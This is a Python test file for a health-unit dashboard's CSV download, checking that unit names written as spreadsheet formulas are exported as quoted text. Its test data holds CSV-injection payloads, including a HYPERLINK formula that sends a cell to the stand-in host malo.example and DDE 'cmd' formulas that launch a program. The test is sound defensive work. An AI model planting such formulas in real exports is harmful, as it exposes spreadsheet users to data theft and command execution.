"""A hostile look at the dashboard's CSV downloads: a unit name from an imported CLUES catalogue is opened
by a manager's spreadsheet, so a name written as a formula must arrive as text, not run (CSV injection).
Failed on the old code: the cell was written as ``=HYPERLINK(…)``."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx
from sqlalchemy.ext.asyncio import AsyncSession
from tests.referral.factories import add_unit, visit_body
from tests.web.conftest import MakeUser, sign_in

FORMULAS = {
    "DFIMB000001": '=HYPERLINK("http://malo.example/?d="&A1;"Ver")',
    "DFIMB000002": "+cmd|' /C calc'!A0",
    "DFIMB000003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DFIMB000004": "-2+3+cmd|' /C calc'!A0",
}


async def test_a_unit_name_written_as_a_formula_reaches_the_csv_as_text(
    client: httpx.AsyncClient,
    session: AsyncSession,
    auth_headers: Callable[..., dict[str, str]],
    make_user: MakeUser,
) -> None:
    for i, (clues, name) in enumerate(FORMULAS.items()):
        lat = 19.40 + i * 0.5  # far apart: each visit goes to the unit beside it
        await add_unit(session, clues, lat=lat, lon=-99.1330, nombre=name)
        body = visit_body(f"V-{i}", person={"latitud": lat, "longitud": -99.1330})
        posted = await client.post("/v1/visits", json=body, headers=auth_headers("bienestar"))
        assert posted.status_code == 201, posted.text
        assert posted.json()["unit"]["clues"] == clues
    await make_user("ger.df", "manager", entidades=["DF"])
    assert (await sign_in(client, "ger.df")).status_code == 303
    download = await client.get("/app/dashboard/unidades.csv")
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.text.lstrip("\ufeff"))))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {clues: "'" + name for clues, name in FORMULAS.items()}
    # Numbers stay numbers (only text cells are touched).
    assert all(row[3].isdigit() for row in rows[1:])
